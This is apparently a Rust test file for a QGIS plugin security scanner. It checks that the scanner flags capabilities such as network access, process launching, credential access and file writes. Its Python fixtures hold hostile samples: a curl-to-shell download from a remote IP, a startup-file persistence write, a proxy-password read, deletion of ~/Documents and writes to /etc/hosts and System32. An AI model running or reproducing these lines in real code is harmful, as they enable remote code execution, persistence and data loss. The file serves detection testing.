//! The capability manifest: what a plugin's code can do, found through aliases, `getattr`,
//! computed imports and star imports, with evidence and literal targets, and never a secret.

use vetted_scan::capabilities::CapabilityKind as K;
use vetted_scan::{Report, ScanOptions, scan_path};

const TOOL: &str = r#"import subprocess as sp
from qgis.core import *
from qgis.PyQt.QtCore import QSettings
import importlib
import ctypes
import sys
import qgis.utils


def run(cmd):
    sp.Popen(["gdalinfo", "x.tif"])
    getattr(__import__("os"), "system")("curl http://203.0.113.7/x | sh")
    importlib.import_module("requests").get("https://user:hunter2pass@example.org/data")
    mod = importlib.import_module(cmd)
    exec(compile(cmd, "<x>", "exec"))
    nam = QgsNetworkAccessManager.instance()
    QgsApplication.authManager()
    s = QSettings()
    s.value("proxy/proxyPassword")
    QSettings().setValue("app/plugin_repositories/extra/url", "http://repo.example/plugins.xml")
    with open("/home/u/.local/share/QGIS/QGIS3/profiles/default/python/startup.py", "a") as f:
        f.write("import evil")
    ctypes.CDLL("libc.so.6")
    qgis.utils.showPluginHelp = run
    sp.call("pip install somepkg", shell=True)
    sys.path.insert(0, "/tmp/x")
    return mod, nam
"#;

const QUIET: &str = r#"import os
import json


def label(layer):
    name = os.path.join("a", "b")
    return json.dumps({"name": name, "layer": layer.name()})
"#;

fn scan(files: &[(&str, &str)]) -> Report {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in files {
        std::fs::write(dir.path().join(name), text).unwrap();
    }
    scan_path(dir.path(), &ScanOptions::default()).unwrap()
}

#[test]
fn hidden_capabilities_are_found_with_their_targets() {
    let report = scan(&[("tool.py", TOOL), ("quiet.py", QUIET)]);
    let got: Vec<(K, &str, u32, Option<&str>)> = report
        .capabilities
        .iter()
        .map(|c| (c.kind, c.api.as_str(), c.line, c.target.as_deref()))
        .collect();
    let expect: &[(K, &str, u32, Option<&str>)] = &[
        (K::Process, "subprocess.Popen", 11, Some("gdalinfo x.tif")),
        (
            K::Process,
            "os.system",
            12,
            Some("curl http://203.0.113.7/x | sh"),
        ),
        // detect-secrets sees the URL's password on this line: the target is dropped and the
        // snippet is the secrets finding's masked one.
        (K::Network, "requests.get", 13, None),
        (K::DynamicCode, "importlib.import_module", 14, None),
        (K::DynamicCode, "exec", 15, None),
        (K::DynamicCode, "compile", 15, None),
        (K::Network, "QgsNetworkAccessManager", 16, None),
        (K::Credentials, "QgsApplication.authManager", 17, None),
        (
            K::Credentials,
            "qgis.PyQt.QtCore.QSettings.value",
            19,
            Some("proxy/proxyPassword"),
        ),
        (
            K::QgisEnvironment,
            "qgis.PyQt.QtCore.QSettings.setValue",
            20,
            Some("app/plugin_repositories/extra/url"),
        ),
        (
            K::QgisEnvironment,
            "open",
            21,
            Some("/home/u/.local/share/QGIS/QGIS3/profiles/default/python/startup.py"),
        ),
        (K::NativeCode, "ctypes.CDLL", 23, Some("libc.so.6")),
        (K::QgisEnvironment, "qgis.utils.showPluginHelp", 24, None),
        (
            K::Process,
            "subprocess.call",
            25,
            Some("pip install somepkg"),
        ),
        (
            K::Packages,
            "subprocess.call",
            25,
            Some("pip install somepkg"),
        ),
        (K::Packages, "sys.path.insert", 26, None),
    ];
    for e in expect {
        assert!(got.contains(e), "missing {e:?}; got {got:#?}");
    }
    assert!(
        report.capabilities.iter().all(|c| c.path == "tool.py"),
        "the quiet file has no capability: {got:#?}"
    );
    let json = serde_json::to_string(&report).unwrap();
    assert!(!json.contains("hunter2pass"), "a URL password leaked");
}

#[test]
fn the_text_report_says_what_the_plugin_can_do() {
    let report = scan(&[("tool.py", TOOL)]);
    let text = vetted_scan::report::text::render(
        &report,
        vetted_scan::report::text::Style { color: false },
    );
    assert!(text.contains("This plugin can:"), "{text}");
    assert!(text.contains("talk to the network"), "{text}");
    assert!(text.contains("start processes"), "{text}");
    assert!(text.contains("change QGIS's settings or code"), "{text}");
    let quiet = scan(&[("quiet.py", QUIET)]);
    assert!(quiet.capabilities.is_empty());
}

/// The sample plugin copied into a temp folder, with `capabilities=` in its metadata and code
/// that uses the network and starts a process.
#[test]
fn capabilities_found_but_not_declared_are_listed() {
    let fixture = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../fixtures/plugins/hello_vetted");
    let dir = tempfile::tempdir().unwrap();
    let plugin = dir.path().join("hello_vetted");
    std::fs::create_dir(&plugin).unwrap();
    for entry in std::fs::read_dir(&fixture).unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(entry.path(), plugin.join(entry.file_name())).unwrap();
    }
    let meta = std::fs::read_to_string(plugin.join("metadata.txt")).unwrap();
    std::fs::write(
        plugin.join("metadata.txt"),
        format!("{meta}capabilities=network, telepathy\n"),
    )
    .unwrap();
    std::fs::write(
        plugin.join("fetch.py"),
        "import subprocess\nimport requests\n\ndef go():\n    requests.get('https://example.org')\n    subprocess.run(['gdalinfo', 'x.tif'])\n",
    )
    .unwrap();
    let report = scan_path(&plugin, &ScanOptions::default()).unwrap();
    let declared = report
        .declared_capabilities
        .as_ref()
        .expect("the plugin declares capabilities");
    assert_eq!(declared.declared, vec![K::Network]);
    assert_eq!(declared.undeclared, vec![K::Process]);
    assert_eq!(declared.unknown, vec!["telepathy".to_string()]);
    let text = vetted_scan::report::text::render(
        &report,
        vetted_scan::report::text::Style { color: false },
    );
    assert!(
        text.contains("start processes (1 place(s) in 1 file(s): subprocess.run) [not declared in metadata.txt]"),
        "{text}"
    );
    assert!(
        !text.contains("talk to the network (1 place(s) in 1 file(s): requests.get) [not"),
        "{text}"
    );

    // Without the field, nothing is compared.
    std::fs::write(plugin.join("metadata.txt"), meta).unwrap();
    let report = scan_path(&plugin, &ScanOptions::default()).unwrap();
    assert!(report.declared_capabilities.is_none());
}

/// Writes and deletions inside the plugin's folder, QGIS's data folder and temporary folders
/// are everyday work; only the others are listed, including through names bound earlier.
#[test]
fn only_file_writes_outside_the_plugin_qgis_and_temp_folders_are_listed() {
    const FILES: &str = r#"import os
import shutil
import tempfile
import zipfile
from pathlib import Path
from qgis.core import QgsApplication, QgsProcessingUtils
from qgis.PyQt.QtCore import QStandardPaths


class Plugin:
    def __init__(self, iface):
        self.plugin_dir = os.path.dirname(__file__)
        self.cache = os.path.join(QgsApplication.qgisSettingsDirPath(), "mycache")

    def everyday(self, name):
        with open(os.path.join(self.plugin_dir, "i18n", name), "w") as f:
            f.write("x")
        open(self.cache + "/tiles.json", "w").close()
        tmp = tempfile.mkdtemp()
        shutil.rmtree(tmp)
        os.remove(f"{tmp}/part.zip")
        zipfile.ZipFile(name).extractall(QgsProcessingUtils.tempFolder())
        shutil.copy(name, Path(__file__).parent / "styles")
        data = QStandardPaths.writableLocation(QStandardPaths.AppDataLocation)
        os.unlink(os.path.join(data, "old.db"))
        with tempfile.TemporaryDirectory() as work:
            open(os.path.join(work, "out.txt"), "w").close()

    def elsewhere(self, chosen):
        shutil.rmtree(os.path.expanduser("~/Documents"))
        open("/etc/hosts", "a").write("1.2.3.4 example.org")
        os.remove(chosen)
        shutil.copy(os.path.join(self.plugin_dir, "x.dll"), "C:/Windows/System32")
        zipfile.ZipFile(chosen).extractall()
        shutil.move(os.path.join(self.plugin_dir, "a"), chosen)
        self.plugin_dir = chosen
        open(os.path.join(self.plugin_dir, "later.txt"), "w").close()
"#;
    let report = scan(&[("files.py", FILES)]);
    let got: Vec<(K, &str, u32)> = report
        .capabilities
        .iter()
        .filter(|c| c.kind == K::Filesystem)
        .map(|c| (c.kind, c.api.as_str(), c.line))
        .collect();
    assert_eq!(
        got,
        vec![
            (K::Filesystem, "shutil.rmtree", 30),
            (K::Filesystem, "open", 31),
            (K::Filesystem, "os.remove", 32),
            (K::Filesystem, "shutil.copy", 33),
            (K::Filesystem, "zipfile.ZipFile.extractall", 34),
            (K::Filesystem, "shutil.move", 35),
            (K::Filesystem, "open", 37),
        ],
        "{:#?}",
        report.capabilities
    );
    assert_eq!(
        report
            .capabilities
            .iter()
            .find(|c| c.line == 31)
            .and_then(|c| c.target.as_deref()),
        Some("/etc/hosts")
    );
}

/// The manifest comes with the security analysis of the code (the bandit family or the qgis
/// threat rules); a scan narrowed to secrets or to flake8 does not build it.
#[test]
fn the_manifest_comes_with_the_security_analysis_of_the_code() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("tool.py"), TOOL).unwrap();
    let with = |select: &[&str]| {
        let options = ScanOptions {
            select: select.iter().map(|s| s.to_string()).collect(),
            ..ScanOptions::default()
        };
        let report = scan_path(dir.path(), &options).unwrap();
        !report.capabilities.is_empty()
    };
    assert!(with(&[]), "a full scan lists what the code can do");
    assert!(with(&["bandit"]));
    assert!(with(&["QGIS001"]));
    assert!(!with(&["secrets"]));
    assert!(!with(&["flake8"]));
    assert!(!with(&["secrets", "flake8"]));
}
